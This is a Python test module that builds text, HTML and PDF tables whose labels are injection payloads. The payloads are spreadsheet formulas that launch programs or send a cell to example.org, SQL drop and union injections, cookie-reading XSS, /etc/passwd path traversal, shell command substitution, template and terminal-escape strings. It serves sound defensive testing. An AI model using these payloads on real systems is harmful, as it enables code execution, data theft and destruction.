"""Labels that are something else to a spreadsheet, a database, a browser or a terminal (fault matrix, rows 26, 27, 41)."""

from tests.attacks.attack import ANY, LOADED, SEEN, Attack, sentence
from tests.attacks.raw import paper, show

LABELS = {
    "formula_equals": ("=cmd|'/c calc'!A0", "a formula that starts a program"),
    "formula_plus": ("+1+1", "a label that a spreadsheet adds up"),
    "formula_minus": ("-2+3+cmd|' /C calc'!A0", "a label that looks like a negative number"),
    "formula_at": ("@SUM(1+1)*cmd|' /C calc'!A0", "an old spreadsheet's formula"),
    "formula_tab": ("\t=1+1", "a formula behind a tab"),
    "formula_cr": ("\r=1+1", "a formula behind a carriage return"),
    "formula_link": ('=HYPERLINK("http://example.org/?"&A1,"Total")', "a formula that sends a cell away"),
    "sql_drop": ("Robert'); drop table document;--", "a label that ends a statement"),
    "sql_union": ("' union select name, sql from sqlite_master --", "a label that asks for more"),
    "sql_bind": (":name %(x)s ? {0} %s $1 \\", "a label of placeholders"),
    "html_script": (
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
        "a label that runs in a browser",
    ),
    "html_close": ("</td></tr></table></body>--><!--]]>", "a label that closes a page's tags"),
    "markdown_table": (
        "a | b | ``` | [x](javascript:alert(1)) | ![y](http://127.0.0.1:9/z)",
        "a label that breaks a table",
    ),
    "terminal": (
        "\x1b[2J\x1b]0;owned\x07\x1b[31m red \x1b]8;;http://example.org\x07",
        "a label that clears the screen",
    ),
    "rich_markup": (
        "[bold red]x[/] [link=http://example.org]y[/link] [/nothing]",
        "a label in the terminal library's own marks",
    ),
    "jinja": ("{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} <%= 7 %>", "a label that a template fills in"),
    "path": ("../../../etc/passwd%00.png", "a label that is a path"),
    "csv_quotes": ('a","b";\'c\'\n"d', "a label of quotes and commas"),
    "shell": ("$(touch canary) `touch canary`; touch canary", "a label that a shell runs"),
    "long": ("x" * 1_000_000, "a label of a million letters"),
    "long_words": ("word " * 200_000, "a label of 200,000 words"),
    "emoji": ("👩‍👩‍👧‍👦" * 50 + "e" + "\u0301" * 5000, "a letter with 5,000 accents"),
}


def text_table(label: str) -> bytes:
    """A text with a table of which one row has this label."""
    rows = f"Category\tApproved\tActual\n{label}\t12\t13\nOther\t4\t5\nTotal\t16\t18\n"
    return f"Report on pumps\n\n{sentence()}\n\nTable 1\n{rows}".encode("utf-8", "surrogatepass")


def html_table(label: str) -> bytes:
    """A web page with the same table; the label stands in it as it is, in a title and an attribute too."""
    escaped = label.replace("&", "&amp;").replace("<", "&lt;")
    rows = f"<tr><th>Category<th>Approved<th>Actual<tr><td>{escaped}<td>12<td>13<tr><td>Other<td>4<td>5"
    return f"<!DOCTYPE html><html><head><title>{escaped}</title></head><body><p>{sentence()}</p><table>{rows}</table></body></html>".encode()


def pdf_table(label: str) -> bytes:
    """A page with the same table."""
    rows = [("Category", "Approved", "Actual"), (label, "12", "13"), ("Other", "4", "5"), ("Total", "16", "18")]
    words = b"".join(
        show(cell.encode("cp1252", "replace"), 600 - 14 * y).replace(b"1 0 0 1 72 ", b"1 0 0 1 %d " % (72 + 200 * x))
        for y, row in enumerate(rows)
        for x, cell in enumerate(row)
    )
    rules = b"".join(b"72 %d m 540 %d l S\n" % (612 - 14 * n, 612 - 14 * n) for n in range(5))
    return paper(words + rules)


def _rows(name: str, label: str, why: str) -> list[Attack]:
    row = 26 if name.startswith("formula") else 27
    ends = ANY if name.startswith("long") else LOADED
    return [
        Attack(f"{name}_txt", row, lambda: text_table(label), ends, why, f"{name}_txt.txt", (SEEN,)),
        Attack(f"{name}_html", row, lambda: html_table(label), ends, why, f"{name}_html.html", (SEEN,)),
        Attack(f"{name}_pdf", row, lambda: pdf_table(label), ends, why, f"{name}_pdf.pdf", (SEEN,)),
    ]


ATTACKS = [attack for name, (label, why) in LABELS.items() for attack in _rows(name, label, why)]
ATTACKS += [
    Attack(
        "row_fits_nothing",
        41,
        lambda: text_table("Posts\t1\t2\t3\t4\t5\t6"),
        LOADED,
        "a row with more figures than heads",
        "row_fits_nothing.txt",
        (SEEN,),
    ),
    Attack("row_empty", 41, lambda: text_table("\t\t\t"), LOADED, "a row without anything", "row_empty.txt", (SEEN,)),
]
